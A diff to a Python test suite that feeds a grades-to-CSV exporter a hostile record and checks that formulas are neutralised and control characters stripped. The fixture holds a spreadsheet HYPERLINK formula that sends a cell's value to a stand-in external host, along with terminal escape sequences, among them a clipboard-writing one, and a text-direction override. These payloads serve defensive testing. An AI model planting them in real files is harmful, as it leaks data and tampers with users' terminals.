@@ -525,6 +525,8 @@ def _hostile_document(tmp_path: Path) -> tuple[Path, str, str]:
     council = '=HYPERLINK("http://example.invalid/?"&A1,"Halton")'
     name = "\x1b]0;pwned\x07Overall \x1b[31meffectiveness\u202e"
     doc["metadata"]["local_authority"] = council
+    for key in ("council_id", "la_code", "gss_code"):  # found again as it is read: no council, the name as printed
+        doc["metadata"].pop(key, None)
     doc["judgements"][0]["name"] = name
     doc["judgements"][1]["grade"]["label"] = "Outstanding\x1b]52;c;cHduZWQ=\x07"
     path = tmp_path / "hostile.yaml"
@@ -542,7 +544,8 @@ def test_grades_csv_neutralises_formulas_and_strips_controls(private_dirs, tmp_p
     assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\u202e" not in result.stdout
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
-    assert rows[0]["report"].startswith("'=HYPERLINK(")
+    assert rows[0]["report"].startswith("'=HYPERLINK(") and rows[0]["council"].startswith("'=HYPERLINK(")
+    assert rows[0]["la_code"] == ""
     assert rows[0]["name"] == "]0;pwnedOverall [31meffectiveness"
 
 
